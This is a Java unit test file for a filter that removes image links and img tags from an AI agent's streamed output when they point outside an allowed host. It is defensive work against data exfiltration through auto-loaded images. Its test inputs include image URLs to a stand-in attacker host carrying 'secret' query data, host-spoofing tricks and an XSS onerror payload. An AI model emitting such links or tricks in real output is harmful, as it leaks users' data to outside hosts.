package dev.parley.agent.run;

import static org.assertj.core.api.Assertions.assertThat;

import dev.parley.agent.provider.LlmMessage;
import dev.parley.agent.provider.LlmMessage.Role;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class PictureFilterTest {
    private static final List<LlmMessage> TOLD = List.of(
            LlmMessage.of(Role.SYSTEM, "Show what is on https://shop.example/img, and nothing else."),
            LlmMessage.of(Role.USER, "Please show https://evil.example/x.png"));

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            Hi ![](https://evil.example/?q=secret) there|Hi  there
            ![a cat](https://evil.example/?q=secret)|a cat
            ![a [b] c](<https://evil.example/?q=secret> "t")|a [b] c
            ![x]( https://evil.example/?q=1)!|x!
            ![x](//evil.example/?q=1)|x
            ![x](http://shop.example@evil.example/)|x
            ![x](https://shop.example.evil.example/)|x
            ![x][1] and [1]: https://evil.example/?q=1|[x][1] and [1]: https://evil.example/?q=1
            ![1]|[1]
            <img src="https://evil.example/?q=1">!|!
            <IMG/src=x onerror=alert(1)>|``
            {"a":"<img src=\\"https://evil.example/?q=1\\">"}|{"a":""}
            ![x](https://evil.example/|x
            ![x|[x
            <img src=x|``
            ![ok](https://shop.example/img/1.png)|![ok](https://shop.example/img/1.png)
            <img src='https://shop.example/1.png'>|<img src='https://shop.example/1.png'>
            Wow! [a](https://evil.example) 1 < 2 <b>x</b> <image> !|Wow! [a](https://evil.example) 1 < 2 <b>x</b> <image> !
            """)
    void whatWouldBeFetchedUnaskedIsTakenOut(String said, String shown) {
        assertThat(PictureFilter.filter(TOLD, said)).isEqualTo(shown);
        for (int size : new int[] {1, 2, 3, 7}) {
            List<String> pieces = new ArrayList<>();
            PictureFilter filter = new PictureFilter(TOLD, pieces::add);
            for (int i = 0; i < said.length(); i += size) {
                filter.accept(said.substring(i, Math.min(said.length(), i + size)));
            }
            assertThat(filter.finish()).as("in pieces of %d", size).isEqualTo(shown);
            assertThat(String.join("", pieces)).isEqualTo(shown);
        }
    }

    @Test
    void whatNeverEndsIsNotHeldForEver() {
        List<String> pieces = new ArrayList<>();
        PictureFilter filter = new PictureFilter(TOLD, pieces::add);

        filter.accept("![" + "x".repeat(100_000));

        assertThat(String.join("", pieces)).hasSizeGreaterThan(90_000).startsWith("[xxx");
        assertThat(filter.finish()).doesNotContain("![");
    }

    @Test
    void plainTextIsPassedOnAtOnce() {
        List<String> pieces = new ArrayList<>();
        PictureFilter filter = new PictureFilter(TOLD, pieces::add);

        filter.accept("Hello ");
        filter.accept("you");

        assertThat(pieces).containsExactly("Hello ", "you");
    }
}
